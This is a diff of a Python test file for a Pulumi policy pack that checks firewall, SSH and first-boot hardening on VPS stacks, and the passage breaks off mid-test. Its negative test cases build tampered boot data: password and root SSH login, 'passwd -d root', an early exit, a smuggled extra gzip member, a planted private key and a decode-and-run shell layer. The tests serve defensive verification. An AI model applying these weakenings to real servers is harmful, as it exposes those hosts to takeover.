@@ -32,7 +32,6 @@ from typing import Any
 
 import pulumi
 import pytest
-import yaml
 from packaging.requirements import Requirement
 from pulumi_policy.proxy import UNKNOWN_NUMBER_VALUE
 
@@ -40,15 +39,48 @@ from components import firstboot
 from components.config import load_stack_file, parse_host_spec
 from components.firstboot import (
     HOST_KEY_PATH,
+    PROVISION_SCRIPT,
     HostFile,
     describe_first_boot,
     linode_user_data,
     render_cloud_config,
     render_first_boot,
     render_launch_script,
+    wire,
 )
 from components.testing.mockrun import run_program
-from policy import hardening_policies as hp
+from policy.hardening_policies.expander import Expander
+from policy.hardening_policies.first_boot import RawFirstBoot, check_first_boot, raw_first_boot, render_as_vendor
+from policy.hardening_policies.host_key import host_key_problem
+from policy.hardening_policies.pack import (
+    POLICIES,
+    catalog_sizes,
+    first_boot_present,
+    first_boot_secrets,
+    inbound_ports,
+    production_safety,
+    ssh_open_advisory,
+    ssh_restricted_in_production,
+)
+from policy.hardening_policies.remote import remote_shape
+from policy.hardening_policies.resources import (
+    DO_FIREWALL,
+    DROPLET,
+    FIREWALL_TYPES,
+    LIGHTSAIL_INSTANCE,
+    LIGHTSAIL_PORTS,
+    LINODE_FIREWALL,
+    LINODE_INSTANCE,
+    REMOTE_COMMAND,
+    REMOTE_COPY,
+    SERVER_VENDORS,
+    SIZE_INPUT,
+    plain,
+    stack_declares_production,
+)
+from policy.hardening_policies.secrets import _looks_like_aws_secret, find_secrets, is_converge
+from policy.hardening_policies.stack_config import NOT_IN_FIRST_BOOT
+from policy.hardening_policies.stack_graph import type_not_allowed
 from policy.offline import (
     Registered,
     StackCase,
@@ -63,10 +95,10 @@ from tests.conftest import ED25519_KEY, ROOT, STACK_FILES, full_config, raw_conf
 
 PROD = "prod"
 DEV_STACKS = ("do-dev", "linode-dev", "lightsail-dev")
-SERVER_OF = {"do-dev": hp.DROPLET, "linode-dev": hp.LINODE_INSTANCE, "lightsail-dev": hp.LIGHTSAIL_INSTANCE,
-             PROD: hp.DROPLET}
-FIREWALL_OF = {"do-dev": hp.DO_FIREWALL, "linode-dev": hp.LINODE_FIREWALL, "lightsail-dev": hp.LIGHTSAIL_PORTS,
-               PROD: hp.DO_FIREWALL}
+SERVER_OF = {"do-dev": DROPLET, "linode-dev": LINODE_INSTANCE, "lightsail-dev": LIGHTSAIL_INSTANCE,
+             PROD: DROPLET}
+FIREWALL_OF = {"do-dev": DO_FIREWALL, "linode-dev": LINODE_FIREWALL, "lightsail-dev": LIGHTSAIL_PORTS,
+               PROD: DO_FIREWALL}
 
 
 # --- what the program registers, as the engine would hand it to a policy pack (policy/offline.py) -------------------
@@ -84,7 +116,7 @@ def stacks() -> dict[str, StackCase]:
 
 def all_messages(case: StackCase) -> dict[str, list[str]]:
     """Policy name -> messages, every policy over every resource of the stack."""
-    out: dict[str, list[str]] = {p.name: [] for p in hp.POLICIES}
+    out: dict[str, list[str]] = {p.name: [] for p in POLICIES}
     for violation in evaluate(case):
         out[violation.policy].append(violation.message)
     return out
@@ -98,12 +130,12 @@ def names_resource_and_fix(message: str, reg: Registered) -> bool:
 def test_pack_files_and_policy_set() -> None:
     pack = (ROOT / "policy" / "PulumiPolicy.yaml").read_text()
     assert re.search(r"^runtime:\n  name: python$", pack, re.MULTILINE)
-    assert [p.name for p in hp.POLICIES] == [
+    assert [p.name for p in POLICIES] == [
         "server-firewall-attached", "resource-types-allowed", "firewall-inbound-ports", "ssh-open-to-internet",
         "production-ssh-restricted",
         "server-first-boot-data", "first-boot-no-secrets", "remote-commands-are-the-products",
         "production-backups-and-protection", "server-size-in-catalog"]
-    levels = {p.name: p.enforcement_level.value for p in hp.POLICIES if p.enforcement_level}
+    levels = {p.name: p.enforcement_level.value for p in POLICIES if p.enforcement_level}
     assert levels.pop("ssh-open-to-internet") == "advisory"
     assert set(levels.values()) == {"mandatory"}
     main = (ROOT / "policy" / "__main__.py").read_text()
@@ -152,8 +184,8 @@ def test_every_stack_passes_every_mandatory_policy(stacks: dict[str, StackCase],
 def test_every_server_is_checked(stacks: dict[str, StackCase]) -> None:
     """The stacks really exercise each policy: one server and one firewall per stack, of the known types."""
     for name, case in stacks.items():
-        assert [r.type for r in case.resources if r.type in hp.SERVER_VENDORS] == [SERVER_OF[name]]
-        assert [r.type for r in case.resources if r.type in hp.FIREWALL_TYPES] == [FIREWALL_OF[name]]
+        assert [r.type for r in case.resources if r.type in SERVER_VENDORS] == [SERVER_OF[name]]
+        assert [r.type for r in case.resources if r.type in FIREWALL_TYPES] == [FIREWALL_OF[name]]
 
 
 # --- server-firewall-attached ------------------------------------------------------------------------------------
@@ -169,7 +201,7 @@ def test_server_without_firewall_is_refused(stacks: dict[str, StackCase], stack:
 def test_firewall_found_by_property_dependency_while_ids_are_unknown(stacks: dict[str, StackCase]) -> None:
     """A first preview: the droplet has no id yet, the firewall's dropletIds is unknown, the dependency is known."""
     case = stacks["do-dev"]
-    server, firewall = case.one(hp.DROPLET), case.one(hp.DO_FIREWALL)
+    server, firewall = case.one(DROPLET), case.one(DO_FIREWALL)
     previewed = [replace(r, outputs={k: v for k, v in r.outputs.items() if k != "id"}) if r is server else
                  replace(r, outputs={**r.outputs, "dropletIds": [UNKNOWN_NUMBER_VALUE]}) if r is firewall else r
                  for r in case.resources]
@@ -178,7 +210,7 @@ def test_firewall_found_by_property_dependency_while_ids_are_unknown(stacks: dic
 
 def test_firewall_found_by_id_without_dependency(stacks: dict[str, StackCase]) -> None:
     case = stacks["linode-dev"]
-    firewall = case.one(hp.LINODE_FIREWALL)
+    firewall = case.one(LINODE_FIREWALL)
     assert firewall.property_dependencies["linodes"]  # what the program records
     unlinked = [replace(r, property_dependencies={}) if r is firewall else r for r in case.resources]
     assert check_stack(unlinked) == []
@@ -186,30 +218,30 @@ def test_firewall_found_by_id_without_dependency(stacks: dict[str, StackCase]) -
 
 def test_firewall_of_another_server_does_not_count(stacks: dict[str, StackCase]) -> None:
     case = stacks["do-dev"]
-    firewall = case.one(hp.DO_FIREWALL)
+    firewall = case.one(DO_FIREWALL)
     elsewhere = [replace(r, property_dependencies={}, outputs={**r.outputs, "dropletIds": [9999.0]})
                  if r is firewall else r for r in case.resources]
     ((message, _),) = check_stack(elsewhere)
-    assert names_resource_and_fix(message, case.one(hp.DROPLET)) and "droplet_ids" in message
+    assert names_resource_and_fix(message, case.one(DROPLET)) and "droplet_ids" in message
 
 
 def test_linode_firewall_must_drop_inbound(stacks: dict[str, StackCase]) -> None:
     case = stacks["linode-dev"]
-    firewall = case.one(hp.LINODE_FIREWALL)
+    firewall = case.one(LINODE_FIREWALL)
     accepting = [replace(r, outputs={**r.outputs, "inboundPolicy": "ACCEPT"}) if r is firewall else r
                  for r in case.resources]
     ((message, urn),) = check_stack(accepting)
-    assert urn == case.one(hp.LINODE_INSTANCE).urn
-    assert "not DROP" in message and names_resource_and_fix(message, case.one(hp.LINODE_INSTANCE))
+    assert urn == case.one(LINODE_INSTANCE).urn
+    assert "not DROP" in message and names_resource_and_fix(message, case.one(LINODE_INSTANCE))
 
 
 def test_lightsail_ports_of_another_instance_do_not_count(stacks: dict[str, StackCase]) -> None:
     case = stacks["lightsail-dev"]
-    ports = case.one(hp.LIGHTSAIL_PORTS)
+    ports = case.one(LIGHTSAIL_PORTS)
     other = [replace(r, property_dependencies={}, outputs={**r.outputs, "instanceName": "someone-else"})
              if r is ports else r for r in case.resources]
     ((message, _),) = check_stack(other)
-    assert "InstancePublicPorts" in message and names_resource_and_fix(message, case.one(hp.LIGHTSAIL_INSTANCE))
+    assert "InstancePublicPorts" in message and names_resource_and_fix(message, case.one(LIGHTSAIL_INSTANCE))
 
 
 # --- firewall-inbound-ports --------------------------------------------------------------------------------------
@@ -217,9 +249,9 @@ def _with_rule(case: StackCase) -> tuple[Registered, dict[str, Any]]:
     """The stack's firewall and its inputs with one extra rule opening TCP 8080 to everyone."""
     firewall = case.one(FIREWALL_OF[case.stack])
     props = copy.deepcopy(firewall.inputs)
-    if firewall.type == hp.DO_FIREWALL:
+    if firewall.type == DO_FIREWALL:
         props["inboundRules"].append({"protocol": "tcp", "portRange": "8080", "sourceAddresses": ["0.0.0.0/0"]})
-    elif firewall.type == hp.LINODE_FIREWALL:
+    elif firewall.type == LINODE_FIREWALL:
         props["inbounds"].append({"label": "alt", "action": "ACCEPT", "protocol": "TCP", "ports": "8080",
                                   "ipv4s": ["0.0.0.0/0"]})
     else:
@@ -230,7 +262,7 @@ def _with_rule(case: StackCase) -> tuple[Registered, dict[str, Any]]:
 @pytest.mark.parametrize("stack", DEV_STACKS)
 def test_extra_open_port_is_refused(stacks: dict[str, StackCase], stack: str) -> None:
     firewall, props = _with_rule(stacks[stack])
-    (message,) = check_resource(hp.inbound_ports, firewall, props)
+    (message,) = check_resource(inbound_ports, firewall, props)
     assert "TCP port 8080" in message and names_resource_and_fix(message, firewall)
 
 
@@ -247,44 +279,44 @@ def test_wide_or_foreign_rules_are_refused(stacks: dict[str, StackCase], stack: 
     firewall = stacks[stack].one(FIREWALL_OF[stack])
     props = copy.deepcopy(firewall.inputs)
     mutate(props)
-    messages = check_resource(hp.inbound_ports, firewall, props)
+    messages = check_resource(inbound_ports, firewall, props)
     assert messages and all(names_resource_and_fix(m, firewall) for m in messages)
     assert any(expected in m for m in messages), messages
 
 
 def test_dropped_linode_rules_open_nothing(stacks: dict[str, StackCase]) -> None:
-    firewall = stacks["linode-dev"].one(hp.LINODE_FIREWALL)
+    firewall = stacks["linode-dev"].one(LINODE_FIREWALL)
     props = copy.deepcopy(firewall.inputs)
     props["inbounds"].append({"label": "block", "action": "DROP", "protocol": "TCP", "ports": "1-65535",
                               "ipv4s": ["198.51.100.0/24"]})
-    assert check_resource(hp.inbound_ports, firewall, props) == []
+    assert check_resource(inbound_ports, firewall, props) == []
 
 
 # --- ssh-open-to-internet / production-ssh-restricted ------------------------------------------------------------
 def _ssh_from_anywhere(firewall: Registered, sources: list[str]) -> dict[str, Any]:
     props = copy.deepcopy(firewall.inputs)
-    if firewall.type == hp.DO_FIREWALL:
+    if firewall.type == DO_FIREWALL:
         props["inboundRules"][0]["sourceAddresses"] = sources
     return props
 
 
 def test_production_refuses_ssh_from_anywhere(stacks: dict[str, StackCase]) -> None:
     case = stacks[PROD]
-    firewall = case.one(hp.DO_FIREWALL)
+    firewall = case.one(DO_FIREWALL)
     with analysing(case):
-        assert check_resource(hp.ssh_restricted_in_production, firewall) == []
-        (message,) = check_resource(hp.ssh_restricted_in_production, firewall,
+        assert check_resource(ssh_restricted_in_production, firewall) == []
+        (message,) = check_resource(ssh_restricted_in_production, firewall,
                                     _ssh_from_anywhere(firewall, ["0.0.0.0/0", "2001:db8:1234::/48"]))
-        assert check_resource(hp.ssh_open_advisory, firewall, _ssh_from_anywhere(firewall, ["0.0.0.0/0"])) == []
+        assert check_resource(ssh_open_advisory, firewall, _ssh_from_anywhere(firewall, ["0.0.0.0/0"])) == []
     assert "production" in message and "0.0.0.0/0" in message and "sshAllowedCidrs" in message
     assert names_resource_and_fix(message, firewall)
 
 
 def test_split_ranges_covering_the_internet_count_as_anywhere(stacks: dict[str, StackCase]) -> None:
     case = stacks[PROD]
-    firewall = case.one(hp.DO_FIREWALL)
+    firewall = case.one(DO_FIREWALL)
     with analysing(case):
-        (message,) = check_resource(hp.ssh_restricted_in_production, firewall,
+        (message,) = check_resource(ssh_restricted_in_production, firewall,
                                     _ssh_from_anywhere(firewall, ["0.0.0.0/1", "128.0.0.0/1", "::/1", "8000::/1"]))
     assert "0.0.0.0/0 and ::/0" in message
 
@@ -294,45 +326,45 @@ def test_ssh_from_anywhere_only_warns_outside_production(stacks: dict[str, Stack
     case = stacks[stack]
     firewall = case.one(FIREWALL_OF[stack])
     with analysing(case):
-        assert check_resource(hp.ssh_restricted_in_production, firewall) == []
-        (warning,) = check_resource(hp.ssh_open_advisory, firewall)
+        assert check_resource(ssh_restricted_in_production, firewall) == []
+        (warning,) = check_resource(ssh_open_advisory, firewall)
     assert names_resource_and_fix(warning, firewall)
 
 
 def test_policy_config_forces_production_rules(stacks: dict[str, StackCase]) -> None:
     case = stacks["lightsail-dev"]
-    firewall, server = case.one(hp.LIGHTSAIL_PORTS), case.one(hp.LIGHTSAIL_INSTANCE)
+    firewall, server = case.one(LIGHTSAIL_PORTS), case.one(LIGHTSAIL_INSTANCE)
     forced = {"production": True}
     with analysing(case):
-        (message,) = check_resource(hp.ssh_restricted_in_production, firewall, config=forced)
-        assert check_resource(hp.ssh_open_advisory, firewall, config=forced) == []
-        assert len(check_resource(hp.production_safety, server, config=forced)) == 2
+        (message,) = check_resource(ssh_restricted_in_production, firewall, config=forced)
+        assert check_resource(ssh_open_advisory, firewall, config=forced) == []
+        assert len(check_resource(production_safety, server, config=forced)) == 2
     assert names_resource_and_fix(message, firewall)
     # Policy config can only add the production rules, never lift them from a production stack.
-    prod_firewall = stacks[PROD].one(hp.DO_FIREWALL)
+    prod_firewall = stacks[PROD].one(DO_FIREWALL)
     with analysing(stacks[PROD]):
-        assert len(check_resource(hp.ssh_restricted_in_production, prod_firewall,
+        assert len(check_resource(ssh_restricted_in_production, prod_firewall,
                                   _ssh_from_anywhere(prod_firewall, ["::/0"]), config={"production": False})) == 1
 
 
 def test_production_flag_read_from_the_cli_environment(stacks: dict[str, StackCase],
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
     """The CLI passes the stack config to the pack as PULUMI_CONFIG; nothing else needs setting."""
-    firewall = stacks["do-dev"].one(hp.DO_FIREWALL)
+    firewall = stacks["do-dev"].one(DO_FIREWALL)
     pulumi.runtime.set_all_config({})
     monkeypatch.setenv("PULUMI_CONFIG", json.dumps({"hardened-vps:production": "true"}))
-    assert hp.stack_declares_production()
-    assert len(check_resource(hp.ssh_restricted_in_production, firewall)) == 1
+    assert stack_declares_production()
+    assert len(check_resource(ssh_restricted_in_production, firewall)) == 1
     monkeypatch.setenv("PULUMI_CONFIG", json.dumps({"hardened-vps:production": "false"}))
-    assert not hp.stack_declares_production()
+    assert not stack_declares_production()
     monkeypatch.delenv("PULUMI_CONFIG")
-    assert not hp.stack_declares_production()
+    assert not stack_declares_production()
 
 
 # --- server-first-boot-data --------------------------------------------------------------------------------------
 def _first_boot_props(server: Registered, data: str | None) -> dict[str, Any]:
     props = copy.deepcopy(server.inputs)
-    if server.type == hp.LINODE_INSTANCE:
+    if server.type == LINODE_INSTANCE:
         props["metadatas"] = [] if data is None else [{"userData": data}]
     elif data is None:
         props.pop("userData")
@@ -345,7 +377,7 @@ def _first_boot_props(server: Registered, data: str | None) -> dict[str, Any]:
 def test_bare_server_is_refused(stacks: dict[str, StackCase], stack: str) -> None:
     server = stacks[stack].one(SERVER_OF[stack])
     with analysing(stacks[stack]):
-        (message,) = check_resource(hp.first_boot_present, server, _first_boot_props(server, None))
+        (message,) = check_resource(first_boot_present, server, _first_boot_props(server, None))
     assert "no first-boot data" in message and names_resource_and_fix(message, server)
 
 
@@ -359,18 +391,18 @@ def test_foreign_first_boot_data_is_refused(stacks: dict[str, StackCase], stack:
                                             expected: str) -> None:
     server = stacks[stack].one(SERVER_OF[stack])
     with analysing(stacks[stack]):
-        (message,) = check_resource(hp.first_boot_present, server, _first_boot_props(server, data))
+        (message,) = check_resource(first_boot_present, server, _first_boot_props(server, data))
     assert expected in message and names_resource_and_fix(message, server)
 
 
 def test_wrong_form_for_the_vendor_is_refused(stacks: dict[str, StackCase]) -> None:
-    lightsail = stacks["lightsail-dev"].one(hp.LIGHTSAIL_INSTANCE)
-    droplet = stacks["do-dev"].one(hp.DROPLET)
+    lightsail = stacks["lightsail-dev"].one(LIGHTSAIL_INSTANCE)
+    droplet = stacks["do-dev"].one(DROPLET)
     lightsail_as_cloud_config = render_cloud_config(describe_first_boot(load_stack_file(
         ROOT / "stacks" / "Pulumi.lightsail-dev.yaml")))
-    assert hp.plain(droplet.inputs["userData"]) != lightsail_as_cloud_config  # another stack's data: refused too
+    assert plain(droplet.inputs["userData"]) != lightsail_as_cloud_config  # another stack's data: refused too
     with analysing(stacks["lightsail-dev"]):
-        (message,) = check_resource(hp.first_boot_present, lightsail,
+        (message,) = check_resource(first_boot_present, lightsail,
                                     _first_boot_props(lightsail, lightsail_as_cloud_config))
     assert "#cloud-config is ignored" in message and names_resource_and_fix(message, lightsail)
 
@@ -378,20 +410,25 @@ def test_wrong_form_for_the_vendor_is_refused(stacks: dict[str, StackCase]) -> N
 def test_bundle_without_provisioning_script_is_refused(stacks: dict[str, StackCase]) -> None:
     spec = load_stack_file(ROOT / "stacks" / "Pulumi.do-dev.yaml")
     first_boot = describe_first_boot(spec)
-    gutted = replace(first_boot, files=tuple(f for f in first_boot.files if f.path != hp.PROVISION_SCRIPT))
-    server = stacks["do-dev"].one(hp.DROPLET)
+    gutted = replace(first_boot, files=tuple(f for f in first_boot.files if f.path != PROVISION_SCRIPT))
+    server = stacks["do-dev"].one(DROPLET)
     with analysing(stacks["do-dev"]):
-        (message,) = check_resource(hp.first_boot_present, server,
+        (message,) = check_resource(first_boot_present, server,
                                     _first_boot_props(server, render_cloud_config(gutted)))
-    assert hp.PROVISION_SCRIPT in message and names_resource_and_fix(message, server)
+    assert PROVISION_SCRIPT in message and names_resource_and_fix(message, server)
 
 
 def _cloud_config_edited(data: str, edit: Any) -> str:
-    """The rendered cloud-config with its header comment kept and `edit` applied to the document."""
-    header = "".join(line + "\n" for line in data.splitlines() if line.startswith("#"))
-    document = yaml.safe_load(data)
+    """The rendered cloud-config with `edit` applied to its document, laid out by the wire format with the header
+    the renderer gives the bundle it carries (read with the wire format's parser, never from the comment)."""
+    document = wire.cloud_config_document(data)
+    files = tuple(HostFile(e.path, e.content.decode(), f"{e.mode:04o}")
+                  for e in wire.unpack(wire.bundle_of_cloud_config(data)))
+    admin = document["users"][0]["name"]  # type: ignore[index]
+    header = firstboot.form_header(firstboot.FirstBoot(files, admin), "cloud-config")
+    assert wire.cloud_config_text(header, document) == data  # unedited, the same bytes
     edit(document)
-    return header + yaml.safe_dump(document, sort_keys=False, width=100_000)
+    return wire.cloud_config_text(header, document)
 
 
 def _weakened(document: dict[str, Any]) -> None:
@@ -399,7 +436,7 @@ def _weakened(document: dict[str, Any]) -> None:
     document.update(ssh_pwauth=True, disable_root=False,
                     chpasswd={"expire": False, "users": [{"name": "root", "type": "hash",
                                                           "password": "$6$salt$" + "x" * 86}]})
-    document["runcmd"] = [["echo", hp.PROVISION_SCRIPT]]
+    document["runcmd"] = [["echo", PROVISION_SCRIPT]]
 
 
 @pytest.mark.parametrize(("stack", "weaken"), [
@@ -408,7 +445,8 @@ def _weakened(document: dict[str, Any]) -> None:
     ("lightsail-dev", lambda d: d + "passwd -d root\n"),  # after exec: never runs, still not ours
     ("do-dev", lambda d: _cloud_config_edited(d, _weakened)),
     (PROD, lambda d: _cloud_config_edited(d, lambda doc: doc.update(ssh_pwauth=True))),
-    ("linode-dev", lambda d: linode_user_data(_cloud_config_edited(hp.decode_linode_user_data(d) or "", _weakened))),
+    ("linode-dev", lambda d: linode_user_data(_cloud_config_edited(wire.cloud_config_of_linode_metadata(d),
+                                                                   _weakened))),
     # cloud-init reads every member of a gzip stream: a second member appends to the cloud-config
     ("linode-dev", lambda d: base64.b64encode(base64.b64decode(d) + gzip.compress(b"ssh_pwauth: true\n")).decode()),
     ("linode-dev", lambda d: d + "\n"),  # not the rendered bytes, even if it decodes the same
@@ -417,32 +455,31 @@ def test_first_boot_data_must_equal_a_fresh_render_of_its_bundle(stacks: dict[st
                                                                  weaken: Any) -> None:
     """Header, bundle and provisioning script all present, but the data around them does something else."""
     server = stacks[stack].one(SERVER_OF[stack])
-    raw = hp.raw_first_boot(server.type, server.inputs)
+    raw = raw_first_boot(server.type, server.inputs)
     assert raw is not None
     data = weaken(raw.data)
     assert data != raw.data
     with analysing(stacks[stack]):
-        (message,) = check_resource(hp.first_boot_present, server, _first_boot_props(server, data))
+        (message,) = check_resource(first_boot_present, server, _first_boot_props(server, data))
     assert "differs from a fresh render" in message and names_resource_and_fix(message, server)
 
 
 def test_first_boot_check_follows_the_renderer(stacks: dict[str, StackCase], monkeypatch: pytest.MonkeyPatch) -> None:
-    """The pack renders with the project's renderer: when it changes (here an outer shell layer around the
-    launch script), data rendered the new way passes and data rendered the old way does not."""
-    server = stacks["lightsail-dev"].one(hp.LIGHTSAIL_INSTANCE)
+    """The pack renders with the project's renderer: when it changes (here one more line before the launch
+    script's bundle), data rendered the new way passes and data rendered the old way does not."""
+    server = stacks["lightsail-dev"].one(LIGHTSAIL_INSTANCE)
     old = server.inputs["userData"]
     original = firstboot.render_launch_script
 
     def wrapped(first_boot: firstboot.FirstBoot) -> str:
-        inner = base64.encodebytes(gzip.compress(original(first_boot).encode(), mtime=0)).decode()
-        return f"#!/bin/bash\nbase64 -d <<'OUTER' | gunzip | bash\n{inner}OUTER\n"
+        return original(first_boot).replace("set -eu\n", "set -eu\numask 077\n", 1)
 
     monkeypatch.setattr(firstboot, "render_launch_script", wrapped)
     spec = load_stack_file(ROOT / "stacks" / "Pulumi.lightsail-dev.yaml")
     new = firstboot.render_launch_script(describe_first_boot(spec))
     with analysing(stacks["lightsail-dev"]):
-        assert check_resource(hp.first_boot_present, server, _first_boot_props(server, new)) == []
-        (message,) = check_resource(hp.first_boot_present, server, _first_boot_props(server, old))
+        assert check_resource(first_boot_present, server, _first_boot_props(server, new)) == []
+        (message,) = check_resource(first_boot_present, server, _first_boot_props(server, old))
     assert "differs from a fresh render" in message
 
 
@@ -459,7 +496,7 @@ def _edit(first_boot: firstboot.FirstBoot, path: str, edit: Any) -> firstboot.Fi
 
 
 def _early_exit(fb: firstboot.FirstBoot) -> firstboot.FirstBoot:
-    return _edit(fb, hp.PROVISION_SCRIPT, lambda c: c.replace("\n", "\nexit 0\n", 1))  # right after #!/bin/bash
+    return _edit(fb, PROVISION_SCRIPT, lambda c: c.replace("\n", "\nexit 0\n", 1))  # right after #!/bin/bash
 
 
 def _password_root_login(fb: firstboot.FirstBoot) -> firstboot.FirstBoot:
@@ -476,7 +513,7 @@ def _mode(path: str, mode: str) -> Any:
 
 
 WEAKENINGS = {
-    "provision-exits-early": (_early_exit, hp.PROVISION_SCRIPT),
+    "provision-exits-early": (_early_exit, PROVISION_SCRIPT),
     "sshd-password-and-root-login": (_password_root_login, SSHD_DROPIN),
     "sshd-dropin-sorting-first": (_with_file("/etc/ssh/sshd_config.d/00-x.conf", "PasswordAuthentication yes\n"),
                                   "/etc/ssh/sshd_config.d/00-x.conf"),
@@ -496,12 +533,12 @@ def test_weakened_bundle_rendered_anew_is_refused(stacks: dict[str, StackCase], 
     spec = load_stack_file(ROOT / "stacks" / f"Pulumi.{stack}.yaml")
     weakened = weaken(describe_first_boot(spec))
     assert weakened != describe_first_boot(spec)
-    data = hp.render_as_vendor(server.type, weakened)
+    data = render_as_vendor(server.type, weakened)
     props = _first_boot_props(server, data)
     with analysing(case):
-        assert check_resource(hp.first_boot_present, server) == []  # the data the program sends passes
-        (message,) = check_resource(hp.first_boot_present, server, props)
-        assert check_resource(hp.first_boot_secrets, server, props) == []  # nothing secret: only this policy can tell
+        assert check_resource(first_boot_present, server) == []  # the data the program sends passes
+        (message,) = check_resource(first_boot_present, server, props)
+        assert check_resource(first_boot_secrets, server, props) == []  # nothing secret: only this policy can tell
     assert "not what components/firstboot renders for this stack's config" in message and path in message
     assert names_resource_and_fix(message, server)
 
@@ -509,10 +546,10 @@ def test_weakened_bundle_rendered_anew_is_refused(stacks: dict[str, StackCase], 
 def test_another_stacks_first_boot_is_refused(stacks: dict[str, StackCase]) -> None:
     """prod's first boot (its admin keys, SSH ranges, domain) on the do-dev droplet: rendered by the product,
     but not for this stack."""
-    prod_data = hp.plain(stacks[PROD].one(hp.DROPLET).inputs["userData"])
-    server = stacks["do-dev"].one(hp.DROPLET)
+    prod_data = plain(stacks[PROD].one(DROPLET).inputs["userData"])
+    server = stacks["do-dev"].one(DROPLET)
     with analysing(stacks["do-dev"]):
-        (message,) = check_resource(hp.first_boot_present, server, _first_boot_props(server, prod_data))
+        (message,) = check_resource(first_boot_present, server, _first_boot_props(server, prod_data))
     assert "not what components/firstboot renders for this stack's config" in message
 
 
@@ -538,14 +575,14 @@ def openssh_key(cipher: bytes = b"none", keys: int = 1, key_type: bytes = b"ssh-
 
 def test_the_key_builder_passes_and_a_real_key_passes() -> None:
     """The shape check accepts a well-formed key at OpenSSH's width (70) and Go's (64), and one ssh-keygen made."""
-    assert hp.host_key_problem(openssh_key()) is None and hp.host_key_problem(openssh_key(width=64)) is None
+    assert host_key_problem(openssh_key()) is None and host_key_problem(openssh_key(width=64)) is None
     keygen = shutil.which("ssh-keygen")
     if keygen is None:
         pytest.skip("ssh-keygen is not installed")
     with tempfile.TemporaryDirectory() as tmp:
         path = Path(tmp) / "key"
         subprocess.run([keygen, "-q", "-t", "ed25519", "-N", "", "-C", "", "-f", str(path)], check=True)
-        assert hp.host_key_problem(path.read_text()) is None
+        assert host_key_problem(path.read_text()) is None
 
 
 @pytest.mark.parametrize(("key", "why"), [
@@ -564,30 +601,30 @@ def test_host_key_member_must_be_one_unencrypted_ed25519_key(stacks: dict[str, S
                                                                why: str) -> None:
     """The one bundled file the config does not decide is held to the shape of the key the program makes."""
     case = stacks["linode-dev"]
-    server = case.one(hp.LINODE_INSTANCE)
+    server = case.one(LINODE_INSTANCE)
     spec = load_stack_file(ROOT / "stacks" / "Pulumi.linode-dev.yaml")
-    data = hp.render_as_vendor(server.type, describe_first_boot(spec, host_key=key))
+    data = render_as_vendor(server.type, describe_first_boot(spec, host_key=key))
     with analysing(case):
-        (message,) = check_resource(hp.first_boot_present, server, _first_boot_props(server, data))
-        good = hp.render_as_vendor(server.type, describe_first_boot(spec, host_key=openssh_key()))
-        assert check_resource(hp.first_boot_present, server, _first_boot_props(server, good)) == []
-    assert hp.HOST_KEY_PATH in message and why in message and names_resource_and_fix(message, server)
+        (message,) = check_resource(first_boot_present, server, _first_boot_props(server, data))
+        good = render_as_vendor(server.type, describe_first_boot(spec, host_key=openssh_key()))
+        assert check_resource(first_boot_present, server, _first_boot_props(server, good)) == []
+    assert HOST_KEY_PATH in message and why in message and names_resource_and_fix(message, server)
 
 
 def test_first_boot_check_fails_closed_without_the_stacks_config(stacks: dict[str, StackCase],
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
     case = stacks["do-dev"]
-    server = case.one(hp.DROPLET)
+    server = case.one(DROPLET)
     pulumi.runtime.set_all_config({})
-    (no_config,) = check_resource(hp.first_boot_present, server)
+    (no_config,) = check_resource(first_boot_present, server)
     assert "cannot tell what this stack's first boot must be" in no_config and "PULUMI_CONFIG" in no_config
     broken = replace(case, config={**case.config, "hardened-vps:sshAllowedCidrs": '["0.0.0.0"]'})
     with analysing(broken):
-        (invalid,) = check_resource(hp.first_boot_present, server)
+        (invalid,) = check_resource(first_boot_present, server)
     assert "hardened-vps:sshAllowedCidrs" in invalid and "no prefix length" in invalid
     with analysing(case):
         monkeypatch.setattr(pulumi.runtime.settings.SETTINGS, "project", "project")  # no PULUMI_PROJECT/STACK
-        (nameless,) = check_resource(hp.first_boot_present, server)
+        (nameless,) = check_resource(first_boot_present, server)
     assert "PULUMI_STACK" in nameless and names_resource_and_fix(nameless, server)
 
 
@@ -597,19 +634,19 @@ def test_secret_keys_neither_shape_nor_break_the_first_boot_check(stacks: dict[s
     """appSecrets and deployPrivateKey travel over SSH after boot: absent, encrypted or plain in what the pack
     sees, the verdict on the first boot is the same (and the render does not depend on them)."""
     case = stacks[PROD]
-    server = case.one(hp.DROPLET)
+    server = case.one(DROPLET)
     config = {k: v for k, v in case.config.items() if not k.endswith((":appSecrets", ":deployPrivateKey"))}
     seen = config if value is None else {**config, "hardened-vps:appSecrets": value,
                                          "hardened-vps:deployPrivateKey": value}
     with analysing(replace(case, config=seen)):
-        assert check_resource(hp.first_boot_present, server) == []
+        assert check_resource(first_boot_present, server) == []
     raw = {k.removeprefix("hardened-vps:"): v for k, v in config.items() if k.startswith("hardened-vps:")}
     spec = parse_host_spec(raw, stack=PROD, base_dir=ROOT)
     with_secrets = parse_host_spec({**raw, "appSecrets": "DB_PASSWORD=x\nAPI_TOKEN=y\n",
                                     "deployPrivateKey": openssh_key()}, stack=PROD, base_dir=ROOT)
     assert with_secrets.app is not None and with_secrets.app.secret_names == ("DB_PASSWORD", "API_TOKEN")
     assert describe_first_boot(with_secrets) == describe_first_boot(spec)
-    assert {"appSecrets", "deployPrivateKey"} <= hp.NOT_IN_FIRST_BOOT
+    assert {"appSecrets", "deployPrivateKey"} <= NOT_IN_FIRST_BOOT
 
 
 # --- first-boot-no-secrets ---------------------------------------------------------------------------------------
@@ -638,9 +675,9 @@ def test_private_key_inside_the_bundle_is_found(stacks: dict[str, StackCase], st
     data = _rendered_with(stack, HostFile("/root/.ssh/id_ed25519", PRIVATE_KEY, "0600"))
     props = _first_boot_props(server, data)
     with analysing(stacks[stack]):  # not this stack's first boot: the render for its config has no such file
-        (refused,) = check_resource(hp.first_boot_present, server, props)
+        (refused,) = check_resource(first_boot_present, server, props)
     assert "/root/.ssh/id_ed25519" in refused and "holds files the render does not" in refused
-    (message,) = check_resource(hp.first_boot_secrets, server, props)
+    (message,) = check_resource(first_boot_secrets, server, props)
     assert "private key" in message and "root/.ssh/id_ed25519:1" in message
     assert "> xz > root/.ssh/id_ed25519" in message and names_resource_and_fix(message, server)
 
@@ -654,44 +691,44 @@ def test_private_key_inside_the_bundle_is_found(stacks: dict[str, StackCase], st
 ])
 def test_tokens_and_passwords_in_bundled_files_are_found(stacks: dict[str, StackCase], content: str,
                                                          what: str) -> None:
-    server = stacks["linode-dev"].one(hp.LINODE_INSTANCE)
